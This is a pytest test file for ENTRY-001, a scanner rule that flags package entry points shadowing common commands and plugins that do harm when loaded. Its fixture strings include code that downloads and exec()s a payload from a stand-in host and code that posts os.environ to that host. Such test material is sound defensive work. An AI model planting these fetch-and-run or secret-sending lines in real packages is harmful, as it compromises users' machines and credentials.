"""ENTRY-001: commands that stand for others, and plugins that do harm when a tool loads them."""

from __future__ import annotations

import pytest

from assay.rules.commands import COMMON, TRUSTED, command, is_own
from assay.rules.entry_001_entry_point import RULE
from tests.behaviour import findings

FETCH = "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n"
CALLED = "import urllib.request\ndef {}():\n    exec(urllib.request.urlopen('http://example.invalid/x').read())\n"
SEND = (
    "import os, urllib.request\n{}urllib.request.urlopen('http://example.invalid/x', data=str(os.environ).encode())\n"
)
PLAIN = "import subprocess\ndef main():\n    subprocess.run(['true'])\n"


def told(files: dict[str, str], point: str = "") -> list[tuple[str, str]]:
    name, _, target = point.partition(" = ")
    found = findings(RULE, {"demo/__init__.py": "", **files}, points={name: target} if point else {})
    return [(finding.severity.value, finding.evidence[0]) for finding in found]


COMMANDS = [
    ("console_scripts python = demo.a:main", PLAIN, "medium"),
    ("console_scripts pip3.12 = demo.a:main", PLAIN, "medium"),
    ("console_scripts sudo = demo.a:main", PLAIN, "medium"),
    ("gui_scripts Git.exe = demo.a:main", PLAIN, "medium"),
    ("console_scripts ls = demo.a:main", PLAIN, "low"),
    ("console_scripts pip = elsewhere:main", PLAIN, "medium"),
    ("console_scripts ls = demo.a:main", CALLED.format("main"), "high"),
    ("console_scripts ssh = demo.a:main", FETCH, "high"),
    ("console_scripts npm = demo.a:main", SEND.format("def f():\n    "), "high"),
    ("console_scripts demo = demo.a:main", FETCH, None),
    ("console_scripts virtualenv = demo.a:main", PLAIN, None),
    ("console_scripts cmake = demo.a:main", PLAIN, None),
    ("console_scripts ninja = demo.a:main", PLAIN, None),
    ("console_scripts nodeenv = demo.a:main", PLAIN, None),
    ("console_scripts black = demo.a:main", PLAIN, None),
    ("console_scripts uv = demo.a:main", PLAIN, None),
    ("console_scripts git-demo = demo.a:main", PLAIN, None),
    ("other.group git = demo.a:main", PLAIN, None),
]


@pytest.mark.parametrize(("point", "source", "expected"), COMMANDS)
def test_commands(point: str, source: str, expected: str | None) -> None:
    said = point.partition(" ")[2]
    assert told({"demo/a.py": source}, point) == ([(expected, said)] if expected else [])


@pytest.mark.parametrize(
    ("path", "source", "expected"),
    [
        ("d-1.data/scripts/curl", "#!python\nprint(1)\n", ["medium"]),
        ("d-1.data/scripts/curl", "#!/bin/sh\ntrue\n", ["medium"]),
        ("d-1.data/scripts/cat", "#!python\n" + FETCH, ["high"]),
        ("d-1.data/scripts/demo", "#!python\n" + FETCH, []),
        ("d-1.data/data/share/curl", "", []),
        ("demo/curl", "", []),
        ("demo/x.data/scripts/curl", "", []),
    ],
)
def test_scripts(path: str, source: str, expected: list[str]) -> None:
    assert [severity for severity, _ in told({path: source})] == expected


PLUGINS = [
    ("pytest11 demo = demo.a", {"demo/a.py": FETCH}, True),
    ("flake8.extension D1 = demo.a:Check", {"demo/a.py": FETCH}, True),
    ("setuptools.finalize_distribution_options x = demo.a:f [extra]", {"demo/a.py": FETCH}, True),
    ("pytest11 demo = demo.a", {"demo/a.py": SEND.format("")}, True),
    ("pytest11 demo = demo.a", {"demo/a.py": CALLED.format("pytest_configure")}, True),
    ("pytest11 demo = demo.a", {"demo/a.py": "from . import b\n", "demo/b.py": FETCH}, True),
    ("pytest11 demo = demo.sub.a", {"demo/sub/__init__.py": FETCH, "demo/sub/a.py": ""}, True),
    ("pytest11 demo = demo.tests.a", {"demo/tests/a.py": FETCH}, True),
    ("pytest11 demo = demo.a", {"demo/a.py": CALLED.format("helper")}, False),
    ("pytest11 demo = demo.a", {"demo/a.py": SEND.format("def pytest_unconfigure():\n    ")}, False),
    ("pytest11 demo = demo.a", {"demo/a.py": "import os\nX = os.environ.get('X')\nexec('X = 1')\n"}, False),
    ("pytest11 demo = demo.a", {"demo/a.py": PLAIN, "demo/b.py": FETCH}, False),
    ("demo.plugins demo = demo.a", {"demo/a.py": FETCH}, False),
]


@pytest.mark.parametrize(("point", "files", "expected"), PLUGINS)
def test_plugins(point: str, files: dict[str, str], expected: bool) -> None:
    group, _, rest = point.partition(" ")
    assert told(files, point) == ([("high", f"{group}: {rest}")] if expected else [])


def test_where_it_points() -> None:
    points = {"pytest11 demo": "demo.a"}
    (finding,) = findings(RULE, {"demo/__init__.py": "", "demo/a.py": FETCH}, points=points)
    assert finding.location
    assert tuple(finding.location)[:3] == ("demo-1.0-py3-none-any.whl!/demo/a.py", 2, 1)
    assert finding.message == "demo 1.0 does harm whenever pytest loads it as a plugin"
    assert finding.trigger == "import"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("python3", "python"),
        ("pip3.12", "pip"),
        ("GIT.EXE", "git"),
        ("md5sum", "md5sum"),
        ("3", ""),
        ("ssh-add", "ssh-add"),
    ],
)
def test_what_a_name_stands_for(name: str, expected: str) -> None:
    assert command(name) == expected


@pytest.mark.parametrize(
    ("name", "purl", "expected"),
    [
        ("pip", "pkg:pypi/pip@26.3", True),
        ("pip3.12", "pkg:pypi/pip@26.3", True),
        ("python-demo", "pkg:pypi/python-demo@1", True),
        ("pip", "pkg:pypi/pip-tool@1.0", False),
        ("pip", "pkg:pypi/pipp@1.0", False),
        ("pip", "", False),
    ],
)
def test_commands_that_are_named_as_the_package_is(name: str, purl: str, expected: bool) -> None:
    assert is_own(name, purl) is expected


def test_the_tables_do_not_overlap() -> None:
    assert not TRUSTED & COMMON
    assert all(command(name) == name for name in TRUSTED | COMMON)


def test_a_component_alone_says_nothing() -> None:
    assert RULE.check is None
